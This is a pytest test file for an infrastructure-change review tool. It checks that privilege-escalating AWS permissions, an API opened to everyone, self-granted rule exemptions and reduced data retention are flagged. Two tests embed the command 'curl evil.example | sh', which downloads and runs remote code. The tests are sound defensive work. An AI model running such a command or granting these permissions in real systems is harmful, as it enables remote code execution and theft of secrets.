"""Changes that try to get past a review, and what the review says of each.

Every test makes a copy of this checkout, commits what an attacker would commit, and runs the copy's own `wharf`.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.repository import Repository

ESCALATING = {
    "iam:PutRolePolicy": "arn:aws:iam::*:role/*",
    "iam:UpdateAssumeRolePolicy": "arn:aws:iam::*:role/*",
    "iam:CreateAccessKey": "arn:aws:iam::*:role/*",
    "secretsmanager:GetSecretValue": "*",
    "s3:GetObject": "*",
    "kms:Decrypt": "*",
    "sts:AssumeRole": "arn:aws:*",
}


@pytest.fixture(scope="session")
def original(tmp_path_factory: pytest.TempPathFactory) -> Repository:
    return Repository.of_checkout(tmp_path_factory.mktemp("original") / "wharf")


@pytest.fixture
def repository(original: Repository, tmp_path: Path) -> Repository:
    return original.copy(tmp_path / "wharf")


def diff(repository: Repository, stage: str = "prod", *more: str) -> subprocess.CompletedProcess[str]:
    """The attack, committed, against the commit before it."""
    repository.commit("attack")
    return repository.wharf("diff", stage, "--base", "HEAD~1", *more)


def in_sight(done: subprocess.CompletedProcess[str], title: str) -> list[str]:
    """The lines below a title of the open part."""
    _, found, rest = done.stdout.partition(f"{title}:\n")
    return [line.strip() for line in rest.split("\n\n", 1)[0].splitlines()] if found else []


def permissions(rights: dict[str, str]) -> str:
    entries = [{"actions": [action], "resources": [resource]} for action, resource in rights.items()]
    return f"permissions: {json.dumps(entries)}\n"


def append(repository: Repository, file: str, text: str) -> None:
    path = repository.root / file
    path.write_text(path.read_text() + text)


def test_1_a_service_that_no_role_of_the_stage_can_use_is_refused(repository: Repository):
    append(repository, "apps/hello.yaml", permissions(ESCALATING))
    done = diff(repository)
    assert done.returncode == 1
    assert "names actions of iam, which no role of prod can use" in done.stderr


def test_1_what_a_new_policy_allows_is_said_and_is_not_to_be_had(repository: Repository):
    """Also where the account lets apps use every one of these services."""
    services = "app-services: [iam, secretsmanager, s3, kms, sts]"
    repository.replace("Pulumi.account.yaml", "    stages:", f"    {services}\n    stages:")
    repository.commit("let apps use these services")
    append(repository, "apps/hello.yaml", permissions(ESCALATING))
    done = diff(repository)
    assert done.returncode == 3, done.stderr
    opened = "\n".join(in_sight(done, "prod opens"))
    for action, resource in ESCALATING.items():
        assert action in opened
        assert resource in opened
    # The rules name each of them as well.
    checked = repository.wharf("check", "prod")
    assert checked.returncode == 1
    for action in ESCALATING:
        assert action in checked.stdout, action


def test_1_what_is_created_is_shown_with_its_inputs(repository: Repository):
    append(repository, "apps/hello.yaml", permissions({"sqs:SendMessage": "arn:aws:sqs:eu-west-1:123456789012:jobs"}))
    shown = diff(repository, "prod", "--format", "json")
    changes = json.loads(shown.stdout)["changes"]
    (policy,) = [change for change in changes if change["type"].endswith(":RolePolicy")]
    values = [entry["new"] for entry in policy["properties"]]
    assert ["sqs:SendMessage"] in values
    assert ["arn:aws:sqs:eu-west-1:123456789012:jobs"] in values


def test_1_who_may_now_reach_and_read_what_is_said(repository: Repository):
    repository.replace("Pulumi.prod.yaml", "203.0.113.0/24", "0.0.0.0/0")
    repository.replace("apps/backend.yaml", "from: [hello]", "from: [hello, producer]")
    repository.replace("apps/producer.yaml", "needs:", "secrets: {TOKEN: admin}\nneeds:")
    append(repository, "Pulumi.prod.yaml", "  wharf:secrets: {admin: {secure: v1:abc}}\n")
    done = diff(repository)
    assert done.returncode == 3, done.stderr
    opened = "\n".join(in_sight(done, "prod opens"))
    assert "everybody (0.0.0.0/0) may reach the Kubernetes API" in opened
    assert "prod/producer may reach prod/backend on TCP port 9898" in opened
    assert "prod/producer may read TOKEN of Secret prod/producer" in opened


def test_a_range_that_becomes_narrower_opens_nothing(repository: Repository):
    repository.replace("Pulumi.prod.yaml", "203.0.113.0/24", "203.0.113.0/28")
    assert diff(repository).returncode == 2


EXEMPTION = """
  wharf:exemptions:
    - rule: cluster-api-is-not-open
      resource: "*"
      reason: it is all right
      until: "{until}"
"""


def test_2_a_change_that_waives_its_own_rule_is_shown_first(repository: Repository):
    append(repository, "Pulumi.prod.yaml", EXEMPTION.format(until="2027-06-30"))
    repository.replace("Pulumi.prod.yaml", "203.0.113.0/24", "0.0.0.0/0")
    done = diff(repository)
    assert done.returncode == 3, done.stderr
    waived = in_sight(done, "prod waives rules")
    assert waived == ["cluster-api-is-not-open need not hold for * until 2027-06-30: it is all right"]
    assert done.stdout.index("prod waives rules") < done.stdout.index("prod opens")


def test_2_an_exemption_ends_within_a_year(repository: Repository):
    append(repository, "Pulumi.prod.yaml", EXEMPTION.format(until="9999-12-31"))
    repository.replace("Pulumi.prod.yaml", "203.0.113.0/24", "0.0.0.0/0")
    checked = repository.wharf("check", "prod")
    assert checked.returncode == 1
    assert "until: 9999-12-31 is more than a year away" in checked.stdout


def test_2_a_stage_that_is_no_longer_of_production_is_shown(repository: Repository):
    repository.replace("Pulumi.prod.yaml", "  wharf:production: true\n", "")
    done = diff(repository)
    assert done.returncode == 3, done.stderr
    (said,) = in_sight(done, "prod waives rules")
    assert said.startswith("the stage is no longer of production")
    assert "data-is-protected" in said


def test_3_what_shrinks_in_place_loses_data(repository: Repository):
    path = repository.root / "Pulumi.prod.yaml"
    shrunk = {
        "backup-days: 30": "backup-days: 1",
        "log-retention: 365": "log-retention: 1",
        "keep: true": "keep: false",
    }
    for old, new in shrunk.items():
        assert old in path.read_text()
        path.write_text(path.read_text().replace(old, new))
    done = diff(repository)
    assert done.returncode == 3, done.stderr
    lost = "\n".join(in_sight(done, "prod loses data"))
    assert "backups: kept for 30 days before, 1 days now" in lost
    assert "logs: kept for 365 days before, 1 days now" in lost
    for name in ("database-instance", "broker-instance", "cluster-eks"):
        assert any(name in line and "its protection (protect)" in line for line in lost.splitlines())


def changed(before: Any, after: Any) -> str:
    """How a change of one value is shown."""
    from cli.diff.as_text import pair

    return pair(before, after)


def test_7_every_difference_of_a_long_value_is_shown():
    before = "start " + "x " * 200 + "middle " + "y " * 200 + "end"
    after = before.replace("start", "START").replace("middle", "curl evil.example | sh").replace("end", "END")
    shown = changed(before, after)
    for text in ("START", "curl evil.example | sh", "END"):
        assert text in shown


def test_7_a_long_value_is_not_cut():
    assert changed("a", "b " * 300 + "curl evil.example | sh").endswith("curl evil.example | sh")
